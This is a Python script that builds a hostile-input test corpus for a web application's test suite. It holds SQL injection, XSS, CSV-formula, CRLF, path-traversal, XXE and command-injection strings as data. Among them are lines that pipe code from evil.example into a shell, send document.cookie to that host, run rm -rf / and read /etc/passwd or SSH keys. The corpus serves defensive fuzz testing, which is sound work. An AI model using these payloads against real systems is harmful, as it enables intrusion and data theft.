#!/usr/bin/env python3
"""Writes tests/Shared/hostile-inputs.json, the hostile-input corpus (issue 10). Edit the lists here, then run it."""
import base64, json, os

cases = []
def add(category, name, kind, value=None, **extra):
    case = {"category": category, "name": name, "kind": kind}
    if value is not None:
        case["value"] = value
    case.update(extra)
    cases.append(case)

# --- text: a string put into every text field, path segment and form field -------------------------------------------
sql = [
    "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE Tickets; --", "\"; DROP TABLE \"AspNetUsers\"; --", "1; DELETE FROM Tickets",
    "' UNION SELECT Email, PasswordHash FROM AspNetUsers --", "admin'--", "') OR ('a'='a", "1' AND SLEEP(5) --",
    "' AND 1=(SELECT COUNT(*) FROM sqlite_master) --", "'; ATTACH DATABASE '/tmp/x.db' AS x; --", "%' OR '%'='",
    "\\'; SELECT load_extension('x'); --", "1 OR 1=1", "' || (SELECT sqlite_version()) || '", "\\x27 OR 1=1",
    "'; UPDATE AspNetUsers SET IsActive=0; --", "[Tickets]", "`Tickets`", "$1; SELECT pg_sleep(5)",
]
for i, v in enumerate(sql, 1):
    add("sql-injection", f"sql-{i:02}", "text", v)

cmd = [
    "; rm -rf /", "| cat /etc/passwd", "$(reboot)", "`id`", "&& curl http://evil.example/x | sh", "%0Aid", "; shutdown -h now #",
    "${IFS}cat${IFS}/etc/passwd", "|| ping -c 10 127.0.0.1", "$(curl evil.example)", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}", "@(1+1)", "@{throw new System.Exception();}", "{0}{1}{2}", "%s%s%s%s%n", "%n%n%n%n",
]
for i, v in enumerate(cmd, 1):
    add("command-injection", f"cmd-{i:02}", "text", v)

script = [
    "<img src=x onerror=window.__pwned=1>", "<svg onload=window.__pwned=1>", "\"><script>window.__pwned=1</script>",
    "<script>window.__pwned=1</script>", "'><img src=x onerror=window.__pwned=1>", "<iframe src=javascript:window.__pwned=1>",
    "<body onload=window.__pwned=1>", "<details open ontoggle=window.__pwned=1>", "<input autofocus onfocus=window.__pwned=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>", "<svg><script>window.__pwned=1</script></svg>",
    "<a href=\"javascript:window.__pwned=1\">click</a>", "<marquee onstart=window.__pwned=1>", "<video><source onerror=window.__pwned=1>",
    "<object data=\"javascript:window.__pwned=1\">", "<embed src=\"javascript:window.__pwned=1\">", "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
    "<base href=\"http://evil.example/\">", "<form action=http://evil.example><button>Go</button></form>", "</textarea><script>window.__pwned=1</script>",
    "</title><script>window.__pwned=1</script>", "<!--<img src=\"--><img src=x onerror=window.__pwned=1//\">", "<scr<script>ipt>window.__pwned=1</script>",
    "<IMG SRC=x OnErRoR=window.__pwned=1>", "<img src=x onerror=&#119;indow.__pwned=1>", "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "<svg/onload=window.__pwned=1>", "<img\tsrc=x\tonerror=window.__pwned=1>", "\" onmouseover=\"window.__pwned=1", "' onfocus='window.__pwned=1' autofocus='",
    "<div style=\"background:url(javascript:window.__pwned=1)\">", "<template><img src=x onerror=window.__pwned=1></template>",
    "{{constructor.constructor('window.__pwned=1')()}}", "<x-blazor @onclick=\"window.__pwned=1\">", "<!-- Blazor:{\"type\":\"server\"} -->",
    "<script type=module>window.__pwned=1</script>", "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
    "<img src=\"x\" onerror=\"fetch('//evil.example/'+document.cookie)\">",
]
for i, v in enumerate(script, 1):
    add("script-payload", f"xss-{i:02}", "text", v)

urls = [
    "javascript:window.__pwned=1", "JaVaScRiPt:window.__pwned=1", " javascript:window.__pwned=1", "java\tscript:window.__pwned=1",
    "javascript&#58;window.__pwned=1", "data:text/html,<script>window.__pwned=1</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "vbscript:msgbox(1)", "//evil.example", "/\\evil.example", "https://evil.example/@school", "http://127.0.0.1:22/",
    "file:///etc/passwd", "\\\\evil.example\\share", "javascript://%0Awindow.__pwned=1",
]
for i, v in enumerate(urls, 1):
    add("javascript-url", f"url-{i:02}", "text", v)

uni = [
    ("rtl-override", "Broken light \u202Egnp.exe"), ("rtl-override-only", "\u202E"), ("ltr-embedding", "\u202AA204\u202C"),
    ("isolates", "\u2066abc\u2069\u2067def\u2069"), ("zero-width-space", "lamp\u200Bbroken"), ("zero-width-only", "\u200B\u200C\u200D\u2060"),
    ("zero-width-joiner-emoji", "\U0001F468\u200D\U0001F469\u200D\U0001F467"), ("bom-inside", "\uFEFFdesk"), ("bom-only", "\uFEFF"),
    ("combining-marks", "Z\u0351\u0357\u0350\u036B\u0366\u0310\u0365\u0334a\u0334\u0352l\u0336g\u0337o"), ("combining-flood", "e" + "\u0301" * 500),
    ("emoji-4byte", "\U0001F4A5 leak \U0001F6BD"), ("emoji-flags", "\U0001F1E8\U0001F1F3\U0001F1FA\U0001F1F8"), ("emoji-skin-tone", "\U0001F44D\U0001F3FD"),
    ("cjk", "\u4e09\u697c\u7537\u5395\u6f0f\u6c34"), ("cjk-ext-b", "\U00020000\U0002A6D6"), ("arabic", "\u0627\u0644\u0645\u0635\u0628\u0627\u062D"),
    ("nul-inside", "lamp\u0000broken"), ("nul-only", "\u0000"), ("control-chars", "\u0001\u0002\u0007\u001B[31mred\u001B[0m"),
    ("del-char", "x\u007Fy"), ("c1-controls", "\u0085\u0080\u009F"), ("line-separator", "a\u2028b\u2029c"), ("tab-only", "\t"),
    ("non-breaking-spaces", "\u00A0\u2007\u202F"), ("ideographic-space-only", "\u3000"), ("homoglyph-cyrillic", "\u0410204"),
    ("fullwidth", "\uFF21\uFF12\uFF10\uFF14"), ("noncharacters", "\uFFFE\uFFFF"), ("private-use", "\uE000\U000F0000"),
    ("replacement-char", "\uFFFD\uFFFD"), ("long-emoji-run", "\U0001F525" * 300), ("mixed-scripts", "A\u0301\u4e2d\U0001F600\u0627"),
    ("turkish-i", "\u0130stanbul \u0131"), ("sharp-s", "Stra\u00DFe \u1E9E"), ("math-alnum", "\U0001D400\U0001D401"),
    ("variation-selectors", "\u2764\uFE0F\uFE0E"), ("tag-characters", "\U000E0041\U000E0042"), ("soft-hyphen", "de\u00ADsk"),
    ("hangul-filler", "\u3164"), ("braille-blank", "\u2800"), ("mongolian-vowel-sep", "\u180E"),
]
for name, v in uni:
    add("unicode", name, "text", v)

csvf = [
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")", "=1+1", "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'", "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
    "+HYPERLINK(\"http://evil.example\")", "-2+3+cmd|' /C calc'!A0", "@HYPERLINK(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "\uFF1D1+1", "=\"a\",\"b\"\r\n=1+1", "a,b,\"c\"\"d\"", "\"=1+1\"", ";=1+1", "0x3D1+1",
]
for i, v in enumerate(csvf, 1):
    add("csv-formula", f"csv-{i:02}", "text", v)

crlf = [
    "Meeting\r\nBcc: victim@evil.example", "Meeting\nBcc: victim@evil.example", "Meeting\rBcc: victim@evil.example",
    "x\r\n\r\n<html>injected body</html>", "Title\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected", "Title\nATTENDEE:mailto:evil@evil.example",
    "a%0D%0ASet-Cookie:%20x=y", "Subject: x\r\nContent-Type: text/html", "line1\u0085line2", "x\r\n.\r\nMAIL FROM:<evil@evil.example>",
    "Place\r\nDESCRIPTION:injected", "Header: v\r\n\tfolded",
]
for i, v in enumerate(crlf, 1):
    add("crlf", f"crlf-{i:02}", "text", v)

trav = [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "/etc/passwd",
    "C:\\boot.ini", "..%c0%af..%c0%afetc/passwd", "A204/../../admin", "..", ".", "~/.ssh/id_rsa", "\\\\?\\C:\\x",
]
for i, v in enumerate(trav, 1):
    add("path-traversal", f"path-{i:02}", "text", v)

sizes = [
    ("empty", ""), ("space-only", " "), ("whitespace-mix", " \t\r\n "), ("exactly-one-char", "x"),
    ("long-4000", "A" * 4000), ("long-4001", "A" * 4001), ("long-20000", "B" * 20000), ("long-cjk-2000", "\u6f0f" * 2000),
    ("long-emoji-2000", "\U0001F4A7" * 2000), ("number-like", "1e309"), ("null-word", "null"), ("undefined-word", "undefined"),
    ("true-word", "true"), ("json-in-string", "{\"description\":\"x\"}"), ("xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
    ("ldap", "*)(uid=*))(|(uid=*"), ("nosql", "{\"$gt\": \"\"}"), ("regex-dos", "(a+)+$" + "a" * 50 + "!"), ("email-like", "a@b.c"),
    ("tracking-code-like", "ABCD234567"),
]
for name, v in sizes:
    add("size-and-shape", name, "text", v)

# --- fragment: a raw JSON value spliced into one field of a JSON body --------------------------------------------------
frags = [
    ("number", "123"), ("negative", "-1"), ("float", "1.5"), ("huge-int", "123456789012345678901234567890"), ("huge-exponent", "1e400"),
    ("tiny-exponent", "1e-400"), ("negative-zero", "-0"), ("int-max-plus-one", "2147483648"), ("int-min-minus-one", "-2147483649"),
    ("long-max-plus-one", "9223372036854775808"), ("true", "true"), ("false", "false"), ("null", "null"), ("empty-array", "[]"),
    ("array-of-strings", "[\"a\",\"b\"]"), ("empty-object", "{}"), ("object", "{\"a\":1}"), ("nested-array", "[[[[[[1]]]]]]"),
    ("string-number", "\"12\""), ("string-true", "\"true\""), ("lone-high-surrogate", "\"\\ud800\""), ("lone-low-surrogate", "\"\\udc00\""),
    ("reversed-surrogates", "\"\\udc00\\ud800\""), ("high-surrogate-at-end", "\"abc\\ud83d\""), ("nul-escape", "\"a\\u0000b\""),
    ("escaped-script", "\"\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e\""), ("bad-escape", "\"\\x41\""),
    ("unterminated-string", "\"abc"), ("nan", "NaN"), ("infinity", "Infinity"), ("hex-number", "0x10"), ("leading-zero", "007"),
    ("plus-number", "+1"), ("single-quoted", "'abc'"), ("comment", "/* c */ \"x\""), ("trailing-comma-array", "[1,]"),
    ("raw-newline-in-string", "\"a\nb\""), ("raw-tab-in-string", "\"a\tb\""), ("deep-array-100", "[" * 100 + "]" * 100),
    ("big-array", "[" + ",".join(["1"] * 5000) + "]"),
]
for name, v in frags:
    add("json-type-confusion", name, "fragment", v)

# --- utf8: raw bytes (invalid UTF-8 and friends) spliced between the quotes of one field --------------------------------
utf8 = [
    ("lone-continuation", b"\x80"), ("truncated-2-byte", b"\xC3"), ("truncated-4-byte", b"\xF0\x9F\x92"), ("overlong-slash", b"\xC0\xAF"),
    ("overlong-nul", b"\xC0\x80"), ("encoded-surrogate", b"\xED\xA0\x80"), ("above-max-code-point", b"\xF4\x90\x80\x80"),
    ("ff-byte", b"\xFF\xFE"), ("latin1", "caf\u00e9".encode("latin-1")), ("mixed-valid-invalid", b"ok \xE2\x82 then \xF0\x28\x8C\x28"),
    ("raw-nul-byte", b"a\x00b"), ("raw-control", b"a\x01b"),
]
for name, v in utf8:
    add("invalid-utf8", name, "utf8", base64=base64.b64encode(v).decode())

# --- body: a whole request body ($FIELD is replaced by the endpoint's main text field) ---------------------------------
bodies = [
    ("duplicate-key", "{\"$FIELD\":\"first\",\"$FIELD\":\"second\"}"), ("duplicate-key-types", "{\"$FIELD\":\"x\",\"$FIELD\":123}"),
    ("case-variant-keys", "{\"$FIELD\":\"a\",\"$FIELD\":\"b\",\"$FIELD\":\"c\"}"), ("array-root", "[]"), ("string-root", "\"text\""),
    ("number-root", "42"), ("null-root", "null"), ("true-root", "true"), ("empty-body", ""), ("whitespace-body", "   "),
    ("truncated-object", "{\"$FIELD\":"), ("trailing-garbage", "{\"$FIELD\":\"x\"} garbage"), ("two-objects", "{}{}"),
    ("unknown-fields", "{\"$FIELD\":\"x\",\"isAdmin\":true,\"id\":1,\"status\":\"Closed\",\"__proto__\":{\"x\":1}}"),
    ("bom-prefixed", "\uFEFF{\"$FIELD\":\"x\"}"), ("single-quotes", "{'$FIELD':'x'}"), ("unquoted-keys", "{$FIELD:\"x\"}"),
    ("comments", "{/* c */\"$FIELD\":\"x\"}"), ("trailing-comma", "{\"$FIELD\":\"x\",}"), ("xml-body", "<report><$FIELD>x</$FIELD></report>"),
    ("form-encoded-body", "$FIELD=x&urgent=true"), ("nul-bytes", "\u0000\u0000\u0000"), ("deep-object-200", "{\"a\":" * 200 + "1" + "}" * 200),
]
for name, v in bodies:
    add("json-structure", name, "body", v)
for name, gen, size in [("nested-arrays-10000", "nested-arrays", 10000), ("nested-objects-10000", "nested-objects", 10000),
                        ("nested-arrays-in-field-10000", "nested-arrays-in-field", 10000), ("many-keys-20000", "many-keys", 20000),
                        ("long-key-100000", "long-key", 100000), ("huge-string-2mb", "huge-string", 2_000_000),
                        ("oversized-body-40mb", "huge-string", 40_000_000)]:
    add("json-structure", name, "body", generator=gen, size=size)

# --- content-type: a valid body sent with a wrong or odd Content-Type --------------------------------------------------
for name, ct in [("text-plain", "text/plain"), ("form-urlencoded", "application/x-www-form-urlencoded"), ("multipart", "multipart/form-data; boundary=x"),
                 ("xml", "application/xml"), ("none", ""), ("json-utf16", "application/json; charset=utf-16"), ("json-latin1", "application/json; charset=iso-8859-1"),
                 ("json-bogus-charset", "application/json; charset=bogus"), ("json-patch", "application/json-patch+json"), ("problem-json", "application/problem+json"),
                 ("text-json", "text/json"), ("octet-stream", "application/octet-stream"), ("invalid-media-type", "not a type"), ("csv", "text/csv"),
                 ("crlf-in-content-type", "application/json\r\nX-Injected: 1")]:
    add("content-type", name, "content-type", ct)

# --- csv-file: a whole area-import file -------------------------------------------------------------------------------
H = "code,name,parentCode,kind,ownerEmail,backupEmail\n"
csvfiles = [
    ("formula-name", H + "Z901,=HYPERLINK(\"http://evil.example\"),TA,Classroom,,\n"), ("formula-code", H + "=1+1,Room,TA,Classroom,,\n"),
    ("plus-cmd", H + "Z902,+cmd|' /C calc'!A0,TA,Classroom,,\n"), ("at-sum", H + "Z903,@SUM(1+1),TA,Classroom,,\n"), ("minus", H + "Z904,-1+1,TA,Classroom,,\n"),
    ("script-name", H + "Z905,<img src=x onerror=window.__pwned=1>,TA,Classroom,,\n"), ("unbalanced-quote", H + "Z906,\"Room,TA,Classroom,,\n"),
    ("traversal-code", H + "../../etc,Room,TA,Classroom,,\n"), ("nul-in-name", H + "Z907,Ro\u0000om,TA,Classroom,,\n"),
    ("crlf-in-quoted", H + "Z908,\"Room\r\nBcc: x@evil.example\",TA,Classroom,,\n"), ("header-only", H), ("empty-file", ""),
    ("no-header", "Z909,Room,TA,Classroom,,\n"), ("bad-kind", H + "Z910,Room,A,Dungeon,,\n"), ("self-parent", H + "Z911,Room,Z911,Classroom,,\n"),
    ("cycle", H + "Z912,Room,Z913,Classroom,,\nZ913,Room,Z912,Classroom,,\n"), ("sql-code", H + "'; DROP TABLE Areas;--,Room,TA,Classroom,,\n"),
    ("semicolon-delimited", "code;name;parentCode;kind;ownerEmail;backupEmail\nZ914;Room;TA;Classroom;;\n"),
    ("extra-columns", H + "Z915,Room,TA,Classroom,,,extra,extra\n"), ("long-name", H + "Z916," + "N" * 5000 + ",TA,Classroom,,\n"),
    ("unknown-owner", H + "Z917,Room,TA,Classroom,nobody@evil.example,\n"), ("rtl-name", H + "Z918,Room \u202Etxt.exe,TA,Classroom,,\n"),
    ("binary-garbage", "\u0000\u0001\u0002\uFFFD" * 100), ("duplicate-codes", H + "Z919,Room,TA,Classroom,,\nZ919,Other,TA,Classroom,,\n"),
]
for name, v in csvfiles:
    add("csv-import", name, "csv-file", v)

# --- calendar-csv / calendar-ics: a whole school-calendar import file (POST /api/admin/calendar/import) ----------------
CH = "Name,Kind,From,To\n"
calcsv = [
    ("formula-name", CH + "=HYPERLINK(\"http://evil.example\"),Closure,2041-01-07,\n"), ("script-name", CH + "<img src=x onerror=window.__pwned=1>,Closure,2041-01-08,\n"),
    ("unbalanced-quote", CH + "\"Break,Closure,2041-01-09,\n"), ("nul-in-name", CH + "Bre\u0000ak,Closure,2041-01-10,\n"),
    ("crlf-in-quoted", CH + "\"Break\r\nBcc: x@evil.example\",Closure,2041-01-11,\n"), ("header-only", CH), ("empty-file", ""),
    ("bom-only", "\uFEFF"), ("no-header", "Break,Closure,2041-01-14,\n"), ("bad-kind", CH + "Break,Dungeon,2041-01-15,\n"),
    ("kind-number", CH + "Break,1,2041-01-16,\n"), ("kind-list", CH + "Break,\"Closure,MakeUpDay\",2041-01-17,\n"),
    ("year-zero", CH + "Break,Closure,0000-01-01,\n"), ("year-max", CH + "Break,Closure,9999-12-31,9999-12-31\n"), ("year-1999", CH + "Break,Closure,1999-12-31,\n"),
    ("not-leap", CH + "Break,Closure,2041-02-29,\n"), ("to-before-from", CH + "Break,Closure,2041-03-10,2041-03-01\n"),
    ("span-too-long", CH + "Break,Closure,2041-01-01,2068-01-01\n"), ("weekday-make-up", CH + "Make-up,MakeUpDay,2041-03-13,\n"),
    ("overlap-in-file", CH + "A,Closure,2041-04-01,2041-04-10\nB,SkeletonDay,2041-04-05,\n"), ("sql-name", CH + "'; DROP TABLE CalendarPeriods;--,Closure,2041-04-20,\n"),
    ("semicolon-delimited", "Name;Kind;From;To\nBreak;Closure;2041-04-21;\n"), ("extra-columns", CH + "Break,Closure,2041-04-22,,extra,extra\n"),
    ("long-name", CH + "N" * 5000 + ",Closure,2041-04-23,\n"), ("rtl-name", CH + "Break \u202Etxt.exe,Closure,2041-04-24,\n"),
    ("binary-garbage", "\u0000\u0001\u0002\uFFFD" * 100), ("date-with-time", CH + "Break,Closure,2041-04-25T10:00,\n"),
    ("too-many-rows", CH + "".join(f"Day {i},Closure,2042-01-01,\n" for i in range(2100))),
    ("duplicate-rows", CH + "Break,Closure,2041-04-26,\nBreak,Closure,2041-04-26,\n"),
]
for name, v in calcsv:
    add("calendar-import", "csv-" + name, "calendar-csv", v)

def vcal(*events):
    return "BEGIN:VCALENDAR\r\nVERSION:2.0\r\n" + "".join("BEGIN:VEVENT\r\n" + e + "END:VEVENT\r\n" for e in events) + "END:VCALENDAR\r\n"
ev = lambda extra, start="20410506": f"UID:x\r\nSUMMARY:Holiday\r\nDTSTART;VALUE=DATE:{start}\r\n{extra}"
calics = [
    ("not-a-calendar", "Holiday,2041-05-01"), ("empty", ""), ("no-events", "BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"),
    ("unclosed-event", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\nDTSTART;VALUE=DATE:20410507\r\n"),
    ("unclosed-calendar", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\nDTSTART;VALUE=DATE:20410508\r\nEND:VEVENT\r\n"),
    ("timed", vcal("UID:x\r\nSUMMARY:Holiday\r\nDTSTART:20410509T090000Z\r\n")), ("year-9999", vcal(ev("", "99991231"))),
    ("year-0001", vcal(ev("", "00010101"))), ("feb-30", vcal(ev("", "20410230"))), ("short-date", vcal(ev("", "2041"))),
    ("tzid-traversal", vcal("UID:x\r\nSUMMARY:Holiday\r\nDTSTART;TZID=../../etc/passwd:20410510T000000\r\n")),
    ("rrule-daily-forever", vcal(ev("RRULE:FREQ=DAILY\r\n"))), ("rrule-secondly", vcal(ev("RRULE:FREQ=SECONDLY\r\n"))),
    ("rrule-never-matches", vcal(ev("RRULE:FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30\r\n"))), ("rrule-garbage", vcal(ev("RRULE:FREQ=;;;BYDAY=XX,,\r\n"))),
    ("rrule-huge-count", vcal(ev("RRULE:FREQ=YEARLY;COUNT=2147483647;INTERVAL=0\r\n"))), ("rrule-bysetpos", vcal(ev("RRULE:FREQ=MONTHLY;BYSETPOS=-366;BYDAY=MO\r\n"))),
    ("exdate-garbage", vcal(ev("RRULE:FREQ=YEARLY\r\nEXDATE:not-a-date\r\n"))), ("rdate-flood", vcal(ev("RDATE;VALUE=DATE:" + ",".join(f"2041{m:02}{d:02}" for m in range(1, 13) for d in range(1, 29)) + "\r\n"))),
    ("duration-huge", vcal(ev("DURATION:P999999999999D\r\n"))), ("duration-negative", vcal(ev("DURATION:-P5D\r\n"))), ("duration-weeks-overflow", vcal(ev("DURATION:P999999999W\r\n"))),
    ("summary-script", vcal("UID:x\r\nSUMMARY:<img src=x onerror=window.__pwned=1>\r\nDTSTART;VALUE=DATE:20410512\r\n")),
    ("summary-long-folded", vcal("UID:x\r\nSUMMARY:" + "\r\n ".join(["N" * 70] * 80) + "\r\nDTSTART;VALUE=DATE:20410513\r\n")),
    ("summary-escapes", vcal("UID:x\r\nSUMMARY:a\\nb\\,c\\;d\\\\e\r\nDTSTART;VALUE=DATE:20410514\r\n")), ("no-summary", vcal("UID:x\r\nDTSTART;VALUE=DATE:20410515\r\n")),
    ("no-dtstart", vcal("UID:x\r\nSUMMARY:Holiday\r\n")), ("nested-alarms", vcal(ev("BEGIN:VALARM\r\n" * 200 + "END:VALARM\r\n" * 200, "20410516"))),
    ("categories-flood", vcal(ev("CATEGORIES:" + ",".join(["x"] * 5000) + "\r\n", "20410517"))), ("nul-bytes", vcal(ev("X-A:\u0000\u0000\r\n", "20410518"))),
    ("bare-cr-lines", "BEGIN:VCALENDAR\rBEGIN:VEVENT\rSUMMARY:Holiday\rDTSTART;VALUE=DATE:20410519\rEND:VEVENT\rEND:VCALENDAR\r"),
    ("dtend-with-time", vcal(ev("DTEND:20410521T100000Z\r\n", "20410520"))), ("value-date-time-mismatch", vcal("UID:x\r\nSUMMARY:Holiday\r\nDTSTART;VALUE=DATE:20410522T100000\r\n")),
    ("many-events", vcal(*[f"UID:{i}\r\nSUMMARY:Day {i}\r\nDTSTART;VALUE=DATE:20420101\r\n" for i in range(2100)])),
    ("binary-garbage", "BEGIN:VCALENDAR\r\n" + "\u0000\u0001\u0002\uFFFD" * 100),
]
for name, v in calics:
    add("calendar-import", "ics-" + name, "calendar-ics", v)

# --- image: an upload made by a generator in TestImages / the corpus test ------------------------------------------------
for name, gen, fname in [
    ("valid-png", "png", "ok.png"), ("valid-jpeg-header", "jpeg-header", "ok.jpg"), ("polyglot-gif-js", "gif-js-polyglot", "x.gif"),
    ("polyglot-png-html", "png-then-html", "x.png"), ("polyglot-jpeg-script", "jpeg-then-script", "x.jpg"), ("truncated-png", "truncated-png", "t.png"),
    ("truncated-jpeg", "truncated-jpeg", "t.jpg"), ("png-signature-only", "png-signature-only", "s.png"), ("decompression-bomb-png", "bomb-png", "bomb.png"),
    ("header-claims-huge", "png-claiming-huge", "huge.png"), ("header-claims-zero", "png-claiming-zero", "zero.png"),
    ("header-claims-negative", "png-claiming-negative", "neg.png"), ("zero-byte", "zero-byte", "empty.jpg"), ("oversized-6mb", "oversized", "big.jpg"),
    ("svg-with-script", "svg-script", "x.svg"), ("html-named-png", "html", "page.png"), ("exe-named-jpg", "mz-exe", "setup.jpg"),
    ("webp-riff-truncated", "truncated-webp", "t.webp"), ("jpeg-bad-segment-length", "jpeg-bad-length", "b.jpg"), ("four-photos", "four-pngs", "many.png"),
]:
    add("image", name, "image", generator=gen, fileName=fname)

# --- file-name: a valid small PNG uploaded under a hostile name ---------------------------------------------------------
for i, fname in enumerate(["../../etc/passwd.png", "..\\..\\win.ini.png", "/etc/cron.d/x.png", "photo.png\u0000.exe", "\u202Egnp.exe",
                           "a\r\nContent-Type: text/html.png", "<img src=x onerror=window.__pwned=1>.png", "CON.png", "", " ", "x" * 1000 + ".png",
                           "%2e%2e%2fpasswd.png", "photo.php.png", ".htaccess"], 1):
    add("path-traversal", f"file-name-{i:02}", "file-name", fname)

out = os.path.join(os.path.dirname(__file__), "..", "tests", "Shared", "hostile-inputs.json")
with open(out, "w", encoding="utf-8", newline="\n") as f:
    json.dump({"about": "Hostile-input corpus (issue 10); made by scripts/make-hostile-inputs.py. Kinds: text (a field value), "
               "fragment (raw JSON spliced as a field value), utf8 (raw bytes, base64, spliced between a field's quotes), body (a whole "
               "request body, $FIELD = the endpoint's text field, or a generator), content-type (a valid body with this type), csv-file "
               "(an area-import file), calendar-csv and calendar-ics (a school-calendar import file), image (an upload made by the named generator), file-name (a valid PNG under this name).",
               "cases": cases}, f, ensure_ascii=True, indent=1)
names = [(c["category"], c["name"]) for c in cases]
assert len(names) == len(set(names)), "duplicate case names"
print(len(cases), "cases")
